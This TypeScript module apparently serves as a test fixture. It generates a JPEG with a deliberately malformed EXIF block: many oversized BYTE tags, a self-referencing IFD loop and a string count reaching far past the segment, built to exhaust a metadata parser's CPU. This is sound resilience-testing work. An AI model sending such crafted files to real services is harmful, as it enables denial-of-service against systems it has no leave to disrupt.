/**
 * A real JPEG (made with sharp) carrying a hostile but well-formed EXIF block: the kind of
 * file that made exif-parser spend seconds of a worker's CPU on one request.
 *
 * The APP1/Exif segment holds a little-endian TIFF whose IFD0
 * - has as many entries as the segment can hold, each a BYTE tag whose components cover the
 *   rest of the segment (a parser that materialises every value does entries × bytes work),
 * - points its Exif sub-IFD and its next IFD back at itself (a loop),
 * - ends with an ASCII tag whose component count points far past the segment,
 * and Make/Model entries first so a careful reader still finds something to show.
 */
import fs from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';

const TIFF_HEADER = 8;
const IFD0_OFFSET = TIFF_HEADER;
/** 'Exif\0\0' + TIFF + IFD, within the 65533 bytes an APP1 payload can hold. */
const MAX_PAYLOAD = 0xffff - 2;

export const BOMB_MAKE = 'Bomb';

export async function exifBombJpeg(width = 800, height = 600): Promise<Buffer> {
  const jpeg = await sharp({ create: { width, height, channels: 3, background: '#808080' } })
    .jpeg({ quality: 80 })
    .toBuffer();
  const app1 = exifBombSegment();
  // Right after SOI, ahead of the JFIF APP0: where cameras put EXIF.
  return Buffer.concat([jpeg.subarray(0, 2), app1, jpeg.subarray(2)]);
}

export async function writeExifBomb(file: string, width?: number, height?: number): Promise<void> {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, await exifBombJpeg(width, height));
}

function exifBombSegment(): Buffer {
  const tiffBytes = MAX_PAYLOAD - 6;
  const tiff = Buffer.alloc(tiffBytes);
  tiff.write('II', 0, 'latin1');
  tiff.writeUInt16LE(42, 2);
  tiff.writeUInt32LE(IFD0_OFFSET, 4);

  const strings = Buffer.from(`${BOMB_MAKE}\0Loop\0`, 'latin1');
  const entryCount = Math.floor((tiffBytes - IFD0_OFFSET - 2 - 4 - strings.length) / 12);
  const entriesEnd = IFD0_OFFSET + 2 + entryCount * 12;
  const stringsAt = entriesEnd + 4;
  strings.copy(tiff, stringsAt);

  tiff.writeUInt16LE(entryCount, IFD0_OFFSET);
  let at = IFD0_OFFSET + 2;
  const entry = (tag: number, format: number, count: number, value: number) => {
    tiff.writeUInt16LE(tag, at);
    tiff.writeUInt16LE(format, at + 2);
    tiff.writeUInt32LE(count, at + 4);
    tiff.writeUInt32LE(value, at + 8);
    at += 12;
  };
  entry(0x010f, 2, BOMB_MAKE.length + 1, stringsAt); // Make
  entry(0x0110, 2, 5, stringsAt + BOMB_MAKE.length + 1); // Model: 'Loop'
  entry(0x8769, 4, 1, IFD0_OFFSET); // Exif sub-IFD: IFD0 again
  // Many BYTE tags, each reading (nearly) the whole TIFF block.
  while (at < entriesEnd - 12) entry(0xc000 + ((at / 12) & 0xfff), 1, tiffBytes - 16, 16);
  // A string "reaching" 2 GB past the segment.
  entry(0x010e, 2, 0x7fffffff, 16); // ImageDescription
  tiff.writeUInt32LE(IFD0_OFFSET, entriesEnd); // next IFD: IFD0 again

  const payload = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
  const header = Buffer.from([0xff, 0xe1, 0, 0]);
  header.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([header, payload]);
}
